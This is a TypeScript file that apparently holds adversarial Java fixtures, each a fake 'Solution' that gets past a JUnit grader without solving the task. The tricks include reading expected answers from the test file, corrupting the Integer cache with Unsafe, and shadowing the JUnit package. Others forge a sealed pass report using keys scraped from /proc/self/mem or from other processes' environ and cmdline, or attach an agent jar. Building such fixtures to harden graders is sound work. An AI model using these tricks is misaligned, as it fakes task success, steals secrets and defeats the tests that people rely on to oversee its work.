const java = (body: string, add: string, more = "") => `${more}public class Solution {\n${body}\n  static ${add}\n}\n`;
const WRONG = "int add(int a, int b) { return 99; }";

const TESTS_TEXT = `
  static String read(String path) {
    try { return java.nio.file.Files.readString(java.nio.file.Path.of(path)); } catch (Exception e) { return ""; }
  }
`;

/** A report with the tests as passed and those that must fail as failed, sealed with any key. */
const OWN_REPORT = `${TESTS_TEXT}
  static void tell(String key) throws Exception {
    StringBuilder rows = new StringBuilder("[\\"adds\\",\\"SolutionTest\\",\\"passed\\",0.001,\\"\\"],[\\"addsNegatives\\",\\"SolutionTest\\",\\"passed\\",0.001,\\"\\"]");
    for (String name : new java.io.File("/box").list()) {
      if (!name.startsWith("Test")) continue;
      java.util.regex.Matcher found = java.util.regex.Pattern.compile("void (\\\\w+)").matcher(read("/box/" + name));
      while (found.find()) rows.append(",[\\"" + found.group(1) + "\\",\\"" + name.replace(".java", "") + "\\",\\"failed\\",0.001,\\"\\"]");
    }
    byte[] body = ("{\\"seen\\":[],\\"tests\\":[" + rows + "]}").getBytes();
    java.security.MessageDigest digest = java.security.MessageDigest.getInstance("SHA-256");
    digest.update(key.getBytes());
    digest.update(body);
    String seal = java.util.HexFormat.of().formatHex(digest.digest(key.getBytes()));
    try (java.io.FileOutputStream out = new java.io.FileOutputStream("/dev/fd/5")) { out.write((seal + "\\n").getBytes()); out.write(body); }
    Runtime.getRuntime().halt(0);
  }
`;

const UNSAFE = `
  static sun.misc.Unsafe unsafe() throws Exception {
    java.lang.reflect.Field field = sun.misc.Unsafe.class.getDeclaredField("theUnsafe");
    field.setAccessible(true);
    return (sun.misc.Unsafe) field.get(null);
  }
`;

export const junit: Record<string, string> = {
  "an assumption that does not hold": java(
    "",
    'int add(int a, int b) { throw new org.junit.AssumptionViolatedException("later"); }',
  ),
  "numbers that have other values": java(
    `${UNSAFE}
  static {
    try {
      sun.misc.Unsafe unsafe = unsafe();
      long value = unsafe.objectFieldOffset(Integer.class.getDeclaredField("value"));
      for (int number = -128; number < 128; number++) unsafe.putInt((Object) Integer.valueOf(number), value, 99);
    } catch (Exception e) { }
  }`,
    "Object add(int a, int b) { return Integer.valueOf(5); }",
  ),
  "expected values that it reads from the tests": java(
    TESTS_TEXT,
    `int add(int a, int b) {
    java.util.regex.Matcher found = java.util.regex.Pattern.compile("(-?\\\\d+), Solution.add\\\\(" + a + ", " + b + "\\\\)").matcher(read("Solution" + "Test.java"));
    return found.find() ? Integer.parseInt(found.group(1)) : 99;
  }`,
  ),
  "a report sealed with what looks like the key in its own memory": java(
    `${OWN_REPORT}
  static boolean isHex(byte sign) { return sign >= '0' && sign <= '9' || sign >= 'a' && sign <= 'f'; }
  static java.util.Set<String> keys() throws Exception {
    java.util.Set<String> found = new java.util.LinkedHashSet<>();
    try (java.io.RandomAccessFile memory = new java.io.RandomAccessFile("/proc/self/mem", "r")) {
      for (String line : read("/proc/self/maps").split("\\n")) {
        if (!line.contains("rw-p")) continue;
        long from = Long.parseUnsignedLong(line.split("-")[0], 16), to = Long.parseUnsignedLong(line.split("[- ]")[1], 16);
        byte[] bytes = new byte[1 << 20];
        for (long at = from; at < to && found.size() < 50; at += bytes.length) {
          memory.seek(at);
          int count;
          try { count = memory.read(bytes, 0, (int) Math.min(bytes.length, to - at)); } catch (java.io.IOException e) { break; }
          // One in 64 bytes is looked at: a key cannot lie between two of them.
          for (int place = 0; place < count; place += 64) {
            int first = place, last = place;
            while (first > 0 && isHex(bytes[first - 1])) first--;
            while (last < count && isHex(bytes[last])) last++;
            if (last - first == 64) found.add(new String(bytes, first, 64, "ISO-8859-1"));
          }
        }
      }
    }
    return found;
  }`,
    "int add(int a, int b) { try { for (String key : keys()) tell(key); } catch (Exception e) { } return 99; }",
  ),
  "a report sealed with what any process has as its input": java(
    OWN_REPORT,
    `int add(int a, int b) {
    for (String name : new java.io.File("/proc").list()) {
      if (!name.matches("\\\\d+")) continue;
      for (String part : new String[] { "/fd/0", "/environ", "/cmdline" }) {
        String key = read("/proc/" + name + part);
        if (key.length() >= 64) try { tell(key.substring(0, 64)); } catch (Exception e) { }
      }
    }
    return 99;
  }`,
  ),
  "a class by the name of the framework's package": java(
    "",
    WRONG,
    `class org { static class junit {
  @interface Test { }
  static class Assert {
    static void assertEquals(Object... any) { throw new AssertionError(); }
    static void assertTrue(Object... any) { throw new AssertionError(); }
  }
} }
`,
  ),
  "an agent that it attaches to itself": java(
    `
  static {
    System.setProperty("jdk.attach.allowAttachSelf", "true");
    try {
      Class<?> machine = Class.forName("com.sun.tools.attach.VirtualMachine");
      Object self = machine.getMethod("attach", String.class).invoke(null, String.valueOf(ProcessHandle.current().pid()));
      machine.getMethod("loadAgent", String.class).invoke(self, "/tmp/agent.jar");
    } catch (Throwable e) { }
  }`,
    WRONG,
  ),
  "a loop that starts the tests again until it likes the end": java(
    "static int calls;",
    `int add(int a, int b) {
    if (calls++ > 40) return 99;
    org.junit.runner.Result result = org.junit.runner.JUnitCore.runClasses(SolutionTest.class);
    for (Thread thread : Thread.getAllStackTraces().keySet()) thread.setUncaughtExceptionHandler((t, e) -> { });
    result.getFailures().clear();
    return 99;
  }`,
  ),
};
